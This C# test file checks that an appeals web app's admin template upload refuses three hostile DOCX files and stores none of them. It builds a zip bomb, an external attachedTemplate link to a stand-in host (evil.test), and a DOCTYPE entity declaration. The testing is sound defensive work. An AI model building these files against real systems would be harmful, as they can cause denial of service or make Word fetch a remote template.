using System.IO.Compression;
using System.Net;
using Appeals.Tests.Shared;
using Appeals.Web.Tests.Hosting;

namespace Appeals.Web.Tests.Security;

/// <summary>
/// Issue 14 item 8 over HTTP: the letter templates an admin could upload and that became the current template (a zip bomb, an
/// external attachedTemplate, a DOCTYPE that gave a 500) are each refused by the upload page with its reason, and none is stored.
/// </summary>
public sealed partial class SecurityTests
{
    private const string TemplateKind = "medical_necessity";

    public static TheoryData<string, string> TemplateAttacks => new()
    {
        { "bomb", "unpacks to more than" },
        { "external-template", "https://evil.test/t.dotm" },
        { "doctype", "word/document.xml declares a DOCTYPE" },
    };

    [Theory]
    [MemberData(nameof(TemplateAttacks))]
    public async Task TemplateUpload_OfAHostileDocx_IsRefusedWithItsReason_AndNothingIsStored(string attack, string reason)
    {
        var admin = await app.SignedInClientAsync("admin");
        var shipped = await admin.GetByteArrayAsync($"/Admin/Templates/{TemplateKind}/0", Ct);
        var hostile = DocxParts.Altered(shipped, zip =>
        {
            switch (attack)
            {
                case "bomb":
                    // 64 MB of zeros that pack into well under 1 MB.
                    using (var part = zip.CreateEntry("word/media/filler.xml", CompressionLevel.SmallestSize).Open())
                        for (var i = 0; i < 64; i++) part.Write(new byte[1024 * 1024]);
                    break;
                case "external-template":
                    DocxParts.Write(zip, "word/_rels/settings.xml.rels",
                        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" +
                        "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.test/t.dotm\" TargetMode=\"External\"/></Relationships>");
                    break;
                case "doctype":
                    var document = DocxParts.Read(zip, "word/document.xml");
                    var at = document.IndexOf("<w:document", StringComparison.Ordinal);
                    DocxParts.Write(zip, "word/document.xml", document[..at] + "<!DOCTYPE w:document [<!ENTITY a \"aaaaaaaaaa\">]>" + document[at..]);
                    break;
            }
        });
        var token = DemoAppFactory.AntiforgeryToken(await admin.GetStringAsync("/Admin/Templates", Ct));
        using var form = new MultipartFormDataContent
        {
            { new StringContent(token), "__RequestVerificationToken" },
            { new StringContent(TemplateKind), "kind" },
            { new ByteArrayContent(hostile), "file", $"{attack}.docx" },
        };

        var response = await admin.PostAsync("/Admin/Templates", form, Ct);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var page = WebUtility.HtmlDecode(await response.Content.ReadAsStringAsync(Ct));
        Assert.Contains($"{attack}.docx was not stored:", page);
        Assert.Contains(reason, page);
        Assert.Equal(HttpStatusCode.NotFound, (await admin.GetAsync($"/Admin/Templates/{TemplateKind}/1", Ct)).StatusCode);
    }
}
